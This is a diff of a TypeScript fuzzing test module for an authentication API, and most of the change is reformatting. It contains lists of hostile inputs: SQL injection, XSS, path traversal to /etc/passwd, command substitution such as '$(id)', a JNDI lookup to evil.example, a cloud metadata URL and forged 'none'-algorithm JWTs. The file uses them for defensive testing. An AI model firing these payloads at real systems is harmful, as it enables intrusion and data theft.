@@ -29,28 +29,145 @@ export const GOOD_PASSWORD = 'quiet-lantern-orbit-47';
 
 /** Strings that have broken services before: injection, traversal, encodings, odd Unicode. */
 export const HOSTILE_STRINGS: readonly string[] = [
-  '', ' ', '\t', '\u0000', 'a\u0000b', '\u0000@example.com', '%00', '%zz', '%', '\\', '\\u0000', '\u0007', '\u001b[31m',
-  '../../../../etc/passwd', '..\\..\\windows\\win.ini', '/etc/passwd', 'file:///etc/passwd', '/proc/self/environ',
-  "' OR '1'='1", "'; DROP TABLE users; --", '" OR ""="', '1 UNION SELECT password_hash FROM users', "admin'--", '$1', "\\'", '%27',
-  '${jndi:ldap://evil.example/a}', '{{7*7}}', '<%= 7*7 %>', '#{7*7}', '<script>alert(1)</script>', '"><img src=x onerror=alert(1)>',
-  'javascript:alert(1)', '\r\nSet-Cookie: a=b', '\n', 'line1\nline2', '\r',
-  '\u202e', '\ufeff', '\uffff', '\ufffe', '\ud800', '\udfff', 'a\ud83d', '😀', '𝕏𝕏', 'é', 'e\u0301', '\u0130', 'ß', 'ﬀ', '\u3000', '\u00a0',
-  '__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf', '__defineGetter__',
-  'null', 'undefined', 'true', 'NaN', 'Infinity', '-1', '0', '1e309', '0x10', '9'.repeat(40), '-0', '1.5',
-  'admin', 'root', 'a@b', '@', 'a@', '@b', 'a@b@c', ' admin@example.com ', 'ADMIN@EXAMPLE.COM', 'a@b.c', 'x@localhost',
-  'İstanbul@example.com', 'ünïcödé@exämple.com', `${'a'.repeat(64)}@${'b'.repeat(252)}`, `${'a'.repeat(65)}@example.com`,
-  '%s%s%s%n', 'AAAA%08x', '*', '.*', '(a+)+$', '\\d+', '[', '{', '}', '"', "'", '`', ';', '|', '&&', '$(id)', '`id`',
-  'openid', 'openid profile email', 'openid  profile', ' openid', 'openid ', 'admin:all', 'client_credentials', 'refresh_token', 'password',
-  'http://localhost:3000', 'https://evil.example', 'urn:x', '//evil.example', 'http://169.254.169.254/latest/meta-data/',
-  'tessera', 'eyJhbGciOiJub25lIn0.e30.', 'a.b.c', 'a.b', '....', 'Bearer x',
+  '',
+  ' ',
+  '\t',
+  '\u0000',
+  'a\u0000b',
+  '\u0000@example.com',
+  '%00',
+  '%zz',
+  '%',
+  '\\',
+  '\\u0000',
+  '\u0007',
+  '\u001b[31m',
+  '../../../../etc/passwd',
+  '..\\..\\windows\\win.ini',
+  '/etc/passwd',
+  'file:///etc/passwd',
+  '/proc/self/environ',
+  "' OR '1'='1",
+  "'; DROP TABLE users; --",
+  '" OR ""="',
+  '1 UNION SELECT password_hash FROM users',
+  "admin'--",
+  '$1',
+  "\\'",
+  '%27',
+  '${jndi:ldap://evil.example/a}',
+  '{{7*7}}',
+  '<%= 7*7 %>',
+  '#{7*7}',
+  '<script>alert(1)</script>',
+  '"><img src=x onerror=alert(1)>',
+  'javascript:alert(1)',
+  '\r\nSet-Cookie: a=b',
+  '\n',
+  'line1\nline2',
+  '\r',
+  '\u202e',
+  '\ufeff',
+  '\uffff',
+  '\ufffe',
+  '\ud800',
+  '\udfff',
+  'a\ud83d',
+  '😀',
+  '𝕏𝕏',
+  'é',
+  'e\u0301',
+  '\u0130',
+  'ß',
+  'ﬀ',
+  '\u3000',
+  '\u00a0',
+  '__proto__',
+  'constructor',
+  'prototype',
+  'toString',
+  'hasOwnProperty',
+  'valueOf',
+  '__defineGetter__',
+  'null',
+  'undefined',
+  'true',
+  'NaN',
+  'Infinity',
+  '-1',
+  '0',
+  '1e309',
+  '0x10',
+  '9'.repeat(40),
+  '-0',
+  '1.5',
+  'admin',
+  'root',
+  'a@b',
+  '@',
+  'a@',
+  '@b',
+  'a@b@c',
+  ' admin@example.com ',
+  'ADMIN@EXAMPLE.COM',
+  'a@b.c',
+  'x@localhost',
+  'İstanbul@example.com',
+  'ünïcödé@exämple.com',
+  `${'a'.repeat(64)}@${'b'.repeat(252)}`,
+  `${'a'.repeat(65)}@example.com`,
+  '%s%s%s%n',
+  'AAAA%08x',
+  '*',
+  '.*',
+  '(a+)+$',
+  '\\d+',
+  '[',
+  '{',
+  '}',
+  '"',
+  "'",
+  '`',
+  ';',
+  '|',
+  '&&',
+  '$(id)',
+  '`id`',
+  'openid',
+  'openid profile email',
+  'openid  profile',
+  ' openid',
+  'openid ',
+  'admin:all',
+  'client_credentials',
+  'refresh_token',
+  'password',
+  'http://localhost:3000',
+  'https://evil.example',
+  'urn:x',
+  '//evil.example',
+  'http://169.254.169.254/latest/meta-data/',
+  'tessera',
+  'eyJhbGciOiJub25lIn0.e30.',
+  'a.b.c',
+  'a.b',
+  '....',
+  'Bearer x',
 ];
 
 /** Lone surrogate halves: invalid UTF-16 that must not reach the database or a log intact. */
-const surrogates = fc.string({ unit: fc.integer({ min: 0xd800, max: 0xdfff }).map((c) => String.fromCharCode(c)), minLength: 1, maxLength: 3 });
+const surrogates = fc.string({
+  unit: fc.integer({ min: 0xd800, max: 0xdfff }).map((c) => String.fromCharCode(c)),
+  minLength: 1,
+  maxLength: 3,
+});
 
 /** Around and past every documented size limit and the 16 KiB body limit. */
 export const hugeString = fc
-  .tuple(fc.constantFrom('a', 'é', '😀', '%', '\u0000', '{', '0', ' '), fc.constantFrom(65, 129, 201, 255, 321, 513, 1025, 2049, 4097, 8193, 17000))
+  .tuple(
+    fc.constantFrom('a', 'é', '😀', '%', '\u0000', '{', '0', ' '),
+    fc.constantFrom(65, 129, 201, 255, 321, 513, 1025, 2049, 4097, 8193, 17000),
+  )
   .map(([c, n]) => c.repeat(n));
 
 export const anyString: fc.Arbitrary<string> = fc.oneof(
@@ -72,7 +189,9 @@ export function encodeLoose(s: string): string {
       out += encodeURIComponent(s.slice(i, i + 2));
       i++;
     } else if (c >= 0xd800 && c <= 0xdfff) {
-      out += [0xe0 | (c >> 12), 0x80 | ((c >> 6) & 0x3f), 0x80 | (c & 0x3f)].map((b) => `%${b.toString(16).toUpperCase()}`).join('');
+      out += [0xe0 | (c >> 12), 0x80 | ((c >> 6) & 0x3f), 0x80 | (c & 0x3f)]
+        .map((b) => `%${b.toString(16).toUpperCase()}`)
+        .join('');
     } else {
       out += encodeURIComponent(s[i]!);
     }
@@ -97,7 +216,20 @@ const FORGERY_METHODS: Forgery['method'][] = [
 
 export const forgeryArb: fc.Arbitrary<Forgery> = fc.record({
   method: fc.constantFrom(...FORGERY_METHODS),
-  alg: fc.constantFrom('none', 'None', 'NONE', 'nOnE', 'HS256', 'HS512', 'ES256', 'RS256', 'PS256', 'EdDSA', 'ES256K', ''),
+  alg: fc.constantFrom(
+    'none',
+    'None',
+    'NONE',
+    'nOnE',
+    'HS256',
+    'HS512',
+    'ES256',
+    'RS256',
+    'PS256',
+    'EdDSA',
+    'ES256K',
+    '',
+  ),
   typ: fc.constantFrom('at+jwt', 'JWT', 'refresh+jwt', 'application/at+jwt', undefined),
   kid: fc.constantFrom('real', 'random', 'traversal', 'sql', 'missing', 'huge'),
   claims: fc.oneof(
@@ -120,7 +252,9 @@ export const forgeryArb: fc.Arbitrary<Forgery> = fc.record({
 });
 
 const realToken = fc.oneof(
-  fc.constantFrom<ActorName>('admin', 'moderator', 'user').chain((a) => fc.constantFrom<Val>(actorRef(a, 'access'), actorRef(a, 'refresh'))),
+  fc
+    .constantFrom<ActorName>('admin', 'moderator', 'user')
+    .chain((a) => fc.constantFrom<Val>(actorRef(a, 'access'), actorRef(a, 'refresh'))),
   fc.nat({ max: 50 }).chain((i) => fc.constantFrom<Val>(poolRef('access', i), poolRef('refresh', i))),
 );
 
@@ -149,54 +283,140 @@ const scheme = fc.constantFrom('Bearer ', 'bearer ', 'BEARER ');
 
 const invalidAuthorization: fc.Arbitrary<Val> = fc.oneof(
   anyString.map((s) => `Bearer ${s}`),
-  fc.constantFrom('Bearer', 'Bearer ', 'Bearer  x', 'Token abc', 'Digest username="a"', 'Basic', 'Basic ', 'Basic !!!', 'Basic =', 'Negotiate YII=', 'Bearer a.b.c', `Bearer ${'a'.repeat(9000)}`),
-  fc.constantFrom('nocolon', ':', '%zz:%zz', 'tessera:', ':secret', 'a:b:c', '\u0000:\u0000').map((s) => `Basic ${Buffer.from(s).toString('base64')}`),
+  fc.constantFrom(
+    'Bearer',
+    'Bearer ',
+    'Bearer  x',
+    'Token abc',
+    'Digest username="a"',
+    'Basic',
+    'Basic ',
+    'Basic !!!',
+    'Basic =',
+    'Negotiate YII=',
+    'Bearer a.b.c',
+    `Bearer ${'a'.repeat(9000)}`,
+  ),
+  fc
+    .constantFrom('nocolon', ':', '%zz:%zz', 'tessera:', ':secret', 'a:b:c', '\u0000:\u0000')
+    .map((s) => `Basic ${Buffer.from(s).toString('base64')}`),
   fc.tuple(anyString, anyString).map(([a, b]) => concat('Basic ', base64(`${a}:${b}`))),
   fc.tuple(scheme, forgeryArb).map(([s, f]) => concat(s, forgedRef(f))),
   fc.constantFrom<ActorName>('admin', 'moderator', 'user').map((a) => concat('Bearer ', actorRef(a, 'refresh'))),
   fc.constantFrom<ActorName>('admin', 'user').map((a) => concat('Bearer ', actorRef(a, 'access'), 'x')),
   fc.constantFrom<ActorName>('admin', 'user').map((a) => concat('Basic ', actorRef(a, 'access'))),
   fc.constantFrom<ActorName>('admin', 'user').map((a) => actorRef(a, 'access') as Val),
-  fc.constantFrom<ActorName>('admin', 'user').map((a) => concat('Bearer ', actorRef(a, 'access'), ' Bearer ', actorRef(a, 'access'))),
-  fc.constantFrom('introspector', 'plain').map((c) => concat('Basic ', base64(concat(clientRef(c as 'introspector', 'id'), ':wrong-secret')))),
+  fc
+    .constantFrom<ActorName>('admin', 'user')
+    .map((a) => concat('Bearer ', actorRef(a, 'access'), ' Bearer ', actorRef(a, 'access'))),
+  fc
+    .constantFrom('introspector', 'plain')
+    .map((c) => concat('Basic ', base64(concat(clientRef(c as 'introspector', 'id'), ':wrong-secret')))),
 );
 
 /** Mostly the credentials the operation is about (a client's at the OAuth endpoints, an admin's elsewhere). */
-export const credentialArb = (op: Operation): fc.Arbitrary<Credential> => fc.oneof(
-  { weight: op.path.startsWith('/oauth/') ? 4 : 2, arbitrary: fc.constant<Credential>({ kind: 'none' }) },
-  { weight: op.path.startsWith('/oauth/') ? 2 : 6, arbitrary: scheme.map<Credential>((s) => ({ kind: 'actor', actor: 'admin', header: concat(s, actorRef('admin', 'access')) })) },
-  { weight: 1, arbitrary: fc.constant<Credential>({ kind: 'actor', actor: 'moderator', header: concat('Bearer ', actorRef('moderator', 'access')) }) },
-  { weight: 1, arbitrary: fc.constant<Credential>({ kind: 'actor', actor: 'user', header: concat('Bearer ', actorRef('user', 'access')) }) },
-  { weight: 5, arbitrary: invalidAuthorization.map<Credential>((header) => ({ kind: 'invalid', header })) },
-  { weight: 1, arbitrary: fc.nat({ max: 50 }).map<Credential>((i) => ({ kind: 'pool', header: concat('Bearer ', poolRef('access', i)) })) },
-  {
-    weight: op.path.startsWith('/oauth/') ? 8 : 1,
-    arbitrary: fc.constantFrom<'introspector' | 'plain'>('introspector', 'introspector', 'plain').map<Credential>((client) => ({
-      kind: 'client',
-      client,
-      header: concat('Basic ', base64(concat(clientRef(client, 'id'), ':', clientRef(client, 'secret')))),
-    })),
-  },
-);
+export const credentialArb = (op: Operation): fc.Arbitrary<Credential> =>
+  fc.oneof(
+    { weight: op.path.startsWith('/oauth/') ? 4 : 2, arbitrary: fc.constant<Credential>({ kind: 'none' }) },
+    {
+      weight: op.path.startsWith('/oauth/') ? 2 : 6,
+      arbitrary: scheme.map<Credential>((s) => ({
+        kind: 'actor',
+        actor: 'admin',
+        header: concat(s, actorRef('admin', 'access')),
+      })),
+    },
+    {
+      weight: 1,
+      arbitrary: fc.constant<Credential>({
+        kind: 'actor',
+        actor: 'moderator',
+        header: concat('Bearer ', actorRef('moderator', 'access')),
+      }),
+    },
+    {
+      weight: 1,
+      arbitrary: fc.constant<Credential>({
+        kind: 'actor',
+        actor: 'user',
+        header: concat('Bearer ', actorRef('user', 'access')),
+      }),
+    },
+    { weight: 5, arbitrary: invalidAuthorization.map<Credential>((header) => ({ kind: 'invalid', header })) },
+    {
+      weight: 1,
+      arbitrary: fc
+        .nat({ max: 50 })
+        .map<Credential>((i) => ({ kind: 'pool', header: concat('Bearer ', poolRef('access', i)) })),
+    },
+    {
+      weight: op.path.startsWith('/oauth/') ? 8 : 1,
+      arbitrary: fc
+        .constantFrom<'introspector' | 'plain'>('introspector', 'introspector', 'plain')
+        .map<Credential>((client) => ({
+          kind: 'client',
+          client,
+          header: concat('Basic ', base64(concat(clientRef(client, 'id'), ':', clientRef(client, 'secret')))),
+        })),
+    },
+  );
 
 // ---- headers ----
 
-const forbiddenHeaderNames = new Set(['host', 'content-length', 'transfer-encoding', 'content-type', 'authorization', 'connection', 'expect', 'upgrade', 'te', 'trailer']);
+const forbiddenHeaderNames = new Set([
+  'host',
+  'content-length',
+  'transfer-encoding',
+  'content-type',
+  'authorization',
+  'connection',
+  'expect',
+  'upgrade',
+  'te',
+  'trailer',
+]);
 
 const headerChoices: Array<fc.Arbitrary<[string, Val]>> = [
-  fc.constantFrom('https://evil.example', 'null', 'http://localhost:3000', 'file://', '*', 'http://localhost:3000.evil.example').map((v) => ['origin', v]),
-  fc.oneof(fc.ipV4(), fc.ipV6(), fc.constantFrom('127.0.0.1, 10.0.0.1', 'unknown', '::1', '', '1.1.1.1, , ,', '999.999.999.999'), anyString).map((v) => ['x-forwarded-for', v]),
+  fc
+    .constantFrom(
+      'https://evil.example',
+      'null',
+      'http://localhost:3000',
+      'file://',
+      '*',
+      'http://localhost:3000.evil.example',
+    )
+    .map((v) => ['origin', v]),
+  fc
+    .oneof(
+      fc.ipV4(),
+      fc.ipV6(),
+      fc.constantFrom('127.0.0.1, 10.0.0.1', 'unknown', '::1', '', '1.1.1.1, , ,', '999.999.999.999'),
+      anyString,
+    )
+    .map((v) => ['x-forwarded-for', v]),
   fc.constantFrom('https', 'http', 'javascript', '').map((v) => ['x-forwarded-proto', v]),
   fc.constantFrom('evil.example', 'localhost:3000', '').map((v) => ['x-forwarded-host', v]),
   fc.ipV4().map((v) => ['x-real-ip', v]),
   fc
     .oneof(
-      fc.constantFrom('__proto__=x', `session=${'a'.repeat(5000)}`, 'a=b; a=c', '=; ;=', 'refresh_token=x', '__Host-tessera=1'),
+      fc.constantFrom(
+        '__proto__=x',
+        `session=${'a'.repeat(5000)}`,
+        'a=b; a=c',
+        '=; ;=',
+        'refresh_token=x',
+        '__Host-tessera=1',
+      ),
       fc.tuple(anyString, anyString).map(([k, v]) => `${k}=${v}`),
     )
     .map((v) => ['cookie', v]),
-  fc.constantFrom<Val>(etagRef, etagRef, '*', 'W/"x"', '""', 'garbage', `"${'x'.repeat(3000)}"`).map((v) => ['if-none-match', v]),
-  fc.constantFrom('*/*', 'text/html', 'application/xml', 'application/json;q=0', '', 'application/problem+json').map((v) => ['accept', v]),
+  fc
+    .constantFrom<Val>(etagRef, etagRef, '*', 'W/"x"', '""', 'garbage', `"${'x'.repeat(3000)}"`)
+    .map((v) => ['if-none-match', v]),
+  fc
+    .constantFrom('*/*', 'text/html', 'application/xml', 'application/json;q=0', '', 'application/problem+json')
+    .map((v) => ['accept', v]),
   fc.constantFrom('utf-16', 'latin1', '*').map((v) => ['accept-charset', v]),
   fc.constantFrom('gzip, deflate, br', 'identity;q=0', '*;q=0', 'x').map((v) => ['accept-encoding', v]),
   fc.constantFrom('gzip', 'deflate', 'br', 'identity', 'x').map((v) => ['content-encoding', v]),
@@ -210,11 +430,13 @@ const headerChoices: Array<fc.Arbitrary<[string, Val]>> = [
 ];
 
 /** A few extra headers per request, from the list above or random. */
-export const headersArb: fc.Arbitrary<Record<string, Val>> = fc.array(fc.oneof(...headerChoices), { maxLength: 4 }).map((entries) => {
-  const out: Record<string, Val> = {};
-  for (const [name, value] of entries) if (!forbiddenHeaderNames.has(name)) out[name] = value;
-  return out;
-});
+export const headersArb: fc.Arbitrary<Record<string, Val>> = fc
+  .array(fc.oneof(...headerChoices), { maxLength: 4 })
+  .map((entries) => {
+    const out: Record<string, Val> = {};
+    for (const [name, value] of entries) if (!forbiddenHeaderNames.has(name)) out[name] = value;
+    return out;
+  });
 
 /** Only what can travel in an HTTP/1.1 header: visible ASCII, space, tab and obs-text. */
 export const headerSafe = (value: string) => value.replace(/[^\t\x20-\x7e\x80-\xff]/g, '');
@@ -231,21 +453,70 @@ export interface PathValue {
 const ownPattern = (schema: JsonSchema) => (schema.pattern === TEXT_PATTERN ? undefined : schema.pattern);
 
 const TRAVERSAL = [
-  '..', '../', '../..', '../../admin/keys/rotate', '..%2f..%2f', '%2e%2e', '%2e%2e%2f', '..%5c', '%00', '%2500', '%zz', '%', '%E0%A4%A', '%ff%fe',
-  '.', '%2e', 'a/b', 'a%2fb', '', ';', 'a;b=c', '*', 'admin', 'me', 'rotate', '%20', '+', '..;/', 'a?x=1', '#frag', '%23', '%3F', '\\..\\',
-  '%C0%AE%C0%AE%2F', '%u002e', '%0d%0aSet-Cookie:%20a=b', '%c0%80',
+  '..',
+  '../',
+  '../..',
+  '../../admin/keys/rotate',
+  '..%2f..%2f',
+  '%2e%2e',
+  '%2e%2e%2f',
+  '..%5c',
+  '%00',
+  '%2500',
+  '%zz',
+  '%',
+  '%E0%A4%A',
+  '%ff%fe',
+  '.',
+  '%2e',
+  'a/b',
+  'a%2fb',
+  '',
+  ';',
+  'a;b=c',
+  '*',
+  'admin',
+  'me',
+  'rotate',
+  '%20',
+  '+',
+  '..;/',
+  'a?x=1',
+  '#frag',
+  '%23',
+  '%3F',
+  '\\..\\',
+  '%C0%AE%C0%AE%2F',
+  '%u002e',
+  '%0d%0aSet-Cookie:%20a=b',
+  '%c0%80',
 ];
 
 function validPathValue(param: Parameter): fc.Arbitrary<Val> {
   if (param.schema.pattern?.includes('{43}')) {
-    return fc.oneof(fc.nat({ max: 20 }).map((i) => kidRef(i) as Val), fc.stringMatching(/^[A-Za-z0-9_-]{43}$/));
+    return fc.oneof(
+      fc.nat({ max: 20 }).map((i) => kidRef(i) as Val),
+      fc.stringMatching(/^[A-Za-z0-9_-]{43}$/),
+    );
   }
   if (param.schema.format === 'uuid') {
     return fc.oneof(
-      fc.constantFrom<Val>(actorRef('admin', 'id'), actorRef('moderator', 'id'), actorRef('user', 'id'), victimRef('id'), victimRef('id'), victimRef('id')),
+      fc.constantFrom<Val>(
+        actorRef('admin', 'id'),
+        actorRef('moderator', 'id'),
+        actorRef('user', 'id'),
+        victimRef('id'),
+        victimRef('id'),
+        victimRef('id'),
+      ),
       fc.uuid(),
       fc.uuid().map((u) => u.toUpperCase()),
-      fc.constantFrom('00000000-0000-0000-0000-000000000000', 'ffffffff-ffff-ffff-ffff-ffffffffffff', '{00000000-0000-0000-0000-000000000000}', '000000000000000000000000000000000000'),
+      fc.constantFrom(
+        '00000000-0000-0000-0000-000000000000',
+        'ffffffff-ffff-ffff-ffff-ffffffffffff',
+        '{00000000-0000-0000-0000-000000000000}',
+        '000000000000000000000000000000000000',
+      ),
     );
   }
   return fc.oneof(
@@ -260,7 +531,10 @@ export function pathValueArb(param: Parameter): fc.Arbitrary<PathValue> {
     { weight: 8, arbitrary: validPathValue(param).map((value) => ({ value, raw: false })) },
     { weight: 2, arbitrary: anyString.map((value) => ({ value, raw: false })) },
     { weight: 2, arbitrary: fc.constantFrom(...TRAVERSAL).map((value) => ({ value, raw: true })) },
-    { weight: 1, arbitrary: fc.constantFrom(199, 200, 201, 255, 300, 5000).map((n) => ({ value: 'k'.repeat(n), raw: false })) },
+    {
+      weight: 1,
+      arbitrary: fc.constantFrom(199, 200, 201, 255, 300, 5000).map((n) => ({ value: 'k'.repeat(n), raw: false })),
+    },
   );
 }
 
@@ -271,24 +545,64 @@ function validQueryValue(param: Parameter): fc.Arbitrary<Val> {
     // Free-form times (RFC 3339 or unix seconds): the edges of every calendar and integer.
     return fc.oneof(
       fc.date({ min: new Date(-8.64e15), max: new Date(8.64e15), noInvalidDate: true }).map((d) => d.toISOString()),
-      fc.constantFrom('0', '-1', '1e10', '99999999999999', '999999999999999999999', '9999-12-31T23:59:59Z', '+275760-09-13T00:00:00.000Z', '2026-02-30T00:00:00Z', 'now', '1970-01-01', 'NaN', 'Infinity', '0x10', ' 1', '1.5', '2026-01-01T00:00:00+99:99'),
-      fc.integer({ min: -700, max: 60 }).map((d) => ref(`now${d >= 0 ? '+' : ''}${d}`, () => String(Math.floor(Date.now() / 1000) + d)) as Val),
+      fc.constantFrom(
+        '0',
+        '-1',
+        '1e10',
+        '99999999999999',
+        '999999999999999999999',
+        '9999-12-31T23:59:59Z',
+        '+275760-09-13T00:00:00.000Z',
+        '2026-02-30T00:00:00Z',
+        'now',
+        '1970-01-01',
+        'NaN',
+        'Infinity',
+        '0x10',
+        ' 1',
+        '1.5',
+        '2026-01-01T00:00:00+99:99',
+      ),
+      fc
+        .integer({ min: -700, max: 60 })
+        .map((d) => ref(`now${d >= 0 ? '+' : ''}${d}`, () => String(Math.floor(Date.now() / 1000) + d)) as Val),
     );
   }
   if (param.name === 'since') {
     return fc.oneof(
-      fc.integer({ min: -700, max: 60 }).map((d) => ref(`now${d >= 0 ? '+' : ''}${d}`, () => String(Math.floor(Date.now() / 1000) + d)) as Val),
+      fc
+        .integer({ min: -700, max: 60 })
+        .map((d) => ref(`now${d >= 0 ? '+' : ''}${d}`, () => String(Math.floor(Date.now() / 1000) + d)) as Val),
       fc.constantFrom('0', '1', '999999999999', '000000000000'),
     );
   }
   const schema = param.schema;
   if (schema.enum || schema.anyOf) return validFromSchema(schema).map((v) => String(v));
-  if (schema.format === 'uuid') return fc.oneof(fc.constantFrom<Val>(actorRef('admin', 'id'), actorRef('user', 'id'), victimRef('id')), fc.uuid());
-  if (param.name === 'type') return fc.oneof(fc.constantFrom('login_failure', 'login_success', 'session_ended', 'key_created', 'client_created,login_failure', 'roles_changed'), fc.stringMatching(/^[a-z_]{1,64}$/));
+  if (schema.format === 'uuid')
+    return fc.oneof(fc.constantFrom<Val>(actorRef('admin', 'id'), actorRef('user', 'id'), victimRef('id')), fc.uuid());
+  if (param.name === 'type')
+    return fc.oneof(
+      fc.constantFrom(
+        'login_failure',
+        'login_success',
+        'session_ended',
+        'key_created',
+        'client_created,login_failure',
+        'roles_changed',
+      ),
+      fc.stringMatching(/^[a-z_]{1,64}$/),
+    );
   if (param.name === 'actor' || param.name === 'target') {
-    return fc.oneof(fc.constantFrom<Val>(actorRef('admin', 'id'), victimRef('id'), clientRef('plain', 'id'), kidRef(0), 'cli'), fc.string({ minLength: 1, maxLength: 40 }));
+    return fc.oneof(
+      fc.constantFrom<Val>(actorRef('admin', 'id'), victimRef('id'), clientRef('plain', 'id'), kidRef(0), 'cli'),
+      fc.string({ minLength: 1, maxLength: 40 }),
+    );
   }
-  if (param.name === 'cursor' && schema.pattern?.includes('A-Za-z')) return fc.oneof(anyString.map((s) => Buffer.from(s).toString('base64url')).filter((c) => c.length > 0), fc.stringMatching(/^[A-Za-z0-9_-]{1,40}$/));
+  if (param.name === 'cursor' && schema.pattern?.includes('A-Za-z'))
+    return fc.oneof(
+      anyString.map((s) => Buffer.from(s).toString('base64url')).filter((c) => c.length > 0),
+      fc.stringMatching(/^[A-Za-z0-9_-]{1,40}$/),
+    );
   const pattern = ownPattern(schema);
   if (pattern) return fc.stringMatching(new RegExp(pattern));
   return fc.oneof(
@@ -298,8 +612,25 @@ function validQueryValue(param: Parameter): fc.Arbitrary<Val> {
 }
 
 const RAW_QUERY_NOISE = [
-  '', '&&', '=', 'a', '%zz=1', 'a=%zz', '__proto__[x]=1', '__proto__=1', 'constructor[prototype][x]=1', 'a[]=1&a[]=2', 'a[b][c]=1',
-  'since=1&since=2', 'limit=1&limit=2', 'query=%00', 'x=%ff%fe', 'toString=1', 'hasOwnProperty=1', '=x', '&=&',
+  '',
+  '&&',
+  '=',
+  'a',
+  '%zz=1',
+  'a=%zz',
+  '__proto__[x]=1',
+  '__proto__=1',
+  'constructor[prototype][x]=1',
+  'a[]=1&a[]=2',
+  'a[b][c]=1',
+  'since=1&since=2',
+  'limit=1&limit=2',
+  'query=%00',
+  'x=%ff%fe',
+  'toString=1',
+  'hasOwnProperty=1',
+  '=x',
+  '&=&',
 ];
 
 export function queryArb(op: Operation): fc.Arbitrary<QueryPart[]> {
@@ -309,18 +640,39 @@ export function queryArb(op: Operation): fc.Arbitrary<QueryPart[]> {
       { weight: 5, arbitrary: validQueryValue(p).map((v) => [[p.name, v, false]] as QueryPart[]) },
       { weight: p.required ? 1 : 5, arbitrary: fc.constant([] as QueryPart[]) },
       { weight: 1, arbitrary: anyString.map((v) => [[p.name, v, false]] as QueryPart[]) },
-      { weight: 1, arbitrary: fc.tuple(validQueryValue(p), validQueryValue(p)).map(([a, b]) => [[p.name, a, false], [p.name, b, false]] as QueryPart[]) },
-      { weight: 1, arbitrary: fc.constantFrom('%00', '%zz', '', '%ff', '+', '%2B').map((v) => [[p.name, v, true]] as QueryPart[]) },
+      {
+        weight: 1,
+        arbitrary: fc.tuple(validQueryValue(p), validQueryValue(p)).map(
+          ([a, b]) =>
+            [
+              [p.name, a, false],
+              [p.name, b, false],
+            ] as QueryPart[],
+        ),
+      },
+      {
+        weight: 1,
+        arbitrary: fc.constantFrom('%00', '%zz', '', '%ff', '+', '%2B').map((v) => [[p.name, v, true]] as QueryPart[]),
+      },
     ),
   );
   const extra = fc.oneof(
     { weight: 4, arbitrary: fc.constant([] as QueryPart[]) },
-    { weight: 1, arbitrary: fc.array(fc.tuple(anyString, anyString).map(([k, v]) => [k, v, false] as QueryPart), { maxLength: 3 }) },
+    {
+      weight: 1,
+      arbitrary: fc.array(
+        fc.tuple(anyString, anyString).map(([k, v]) => [k, v, false] as QueryPart),
+        { maxLength: 3 },
+      ),
+    },
     { weight: 1, arbitrary: fc.constantFrom(...RAW_QUERY_NOISE).map((q) => [['', q, true]] as QueryPart[]) },
   );
   // Half the time only valid values (or none), so operations with many parameters also get past validation.
   const clean = op.queryParams.map((p) =>
-    fc.oneof({ weight: 1, arbitrary: validQueryValue(p).map((v) => [[p.name, v, false]] as QueryPart[]) }, { weight: p.required ? 0 : 2, arbitrary: fc.constant([] as QueryPart[]) }),
+    fc.oneof(
+      { weight: 1, arbitrary: validQueryValue(p).map((v) => [[p.name, v, false]] as QueryPart[]) },
+      { weight: p.required ? 0 : 2, arbitrary: fc.constant([] as QueryPart[]) },
+    ),
   );
   return fc.oneof(
     fc.tuple(fc.tuple(...documented), extra).map(([docs, more]) => [...docs.flat(), ...more]),
@@ -335,20 +687,62 @@ export type Encoding = 'json' | 'form';
 export type Body =
   | { kind: 'none'; contentType: string | undefined }
   /** A JSON-shaped value, serialized at send time; `text` rewrites the JSON (raw attacks). */
-  | { kind: 'tree'; encoding: Encoding; tree: Tree; contentType: string | undefined; rewrite?: { label: string; fn: (json: string) => string } }
+  | {
+      kind: 'tree';
+      encoding: Encoding;
+      tree: Tree;
+      contentType: string | undefined;
+      rewrite?: { label: string; fn: (json: string) => string };
+    }
   /** Form pairs in order (a name may repeat); raw pairs are not percent-encoded. */
   | { kind: 'pairs'; pairs: QueryPart[]; contentType: string | undefined }
   | { kind: 'text'; text: string; contentType: string | undefined }
   | { kind: 'bytes'; bytes: Uint8Array; contentType: string | undefined };
 
-const JSON_TYPES = ['application/json', 'application/json; charset=utf-8', 'application/json;charset=UTF-8', 'APPLICATION/JSON', 'Application/Json ; charset=utf-8'];
-const FORM_TYPES = ['application/x-www-form-urlencoded', 'application/x-www-form-urlencoded; charset=utf-8', 'APPLICATION/X-WWW-FORM-URLENCODED', 'application/x-www-form-urlencoded;charset=ISO-8859-1'];
+const JSON_TYPES = [
+  'application/json',
+  'application/json; charset=utf-8',
+  'application/json;charset=UTF-8',
+  'APPLICATION/JSON',
+  'Application/Json ; charset=utf-8',
+];
+const FORM_TYPES = [
+  'application/x-www-form-urlencoded',
+  'application/x-www-form-urlencoded; charset=utf-8',
+  'APPLICATION/X-WWW-FORM-URLENCODED',
+  'application/x-www-form-urlencoded;charset=ISO-8859-1',
+];
 const ODD_TYPES = [
-  'text/plain', 'text/plain; charset=utf-8', 'multipart/form-data; boundary=x', 'multipart/form-data', 'application/octet-stream', 'application/xml',
-  'text/xml', 'application/jsonx', 'application/json-patch+json', 'application/merge-patch+json', 'application/ld+json', 'text/json', '*/*',
-  'application/*', '', ';', ';;;', 'application/json; charset=utf-16', 'application/json; charset=latin1', 'application/json; charset=""',
-  'application/x-www-form-urlencodedx', 'application/json, application/x-www-form-urlencoded', 'json', 'x/y', 'text/html', 'image/png',
-  'application/csp-report', 'application/json; boundary=x; charset=utf-8', ' application/json', 'application/ json',
+  'text/plain',
+  'text/plain; charset=utf-8',
+  'multipart/form-data; boundary=x',
+  'multipart/form-data',
+  'application/octet-stream',
+  'application/xml',
+  'text/xml',
+  'application/jsonx',
+  'application/json-patch+json',
+  'application/merge-patch+json',
+  'application/ld+json',
+  'text/json',
+  '*/*',
+  'application/*',
+  '',
+  ';',
+  ';;;',
+  'application/json; charset=utf-16',
+  'application/json; charset=latin1',
+  'application/json; charset=""',
+  'application/x-www-form-urlencodedx',
+  'application/json, application/x-www-form-urlencoded',
+  'json',
+  'x/y',
+  'text/html',
+  'image/png',
+  'application/csp-report',
+  'application/json; boundary=x; charset=utf-8',
+  ' application/json',
+  'application/ json',
 ];
 
 function contentTypeArb(encoding: Encoding | undefined): fc.Arbitrary<string | undefined> {
@@ -367,7 +761,12 @@ function namedString(name: string): fc.Arbitrary<Val> | undefined {
   switch (name) {
     case 'email':
       return fc.oneof(
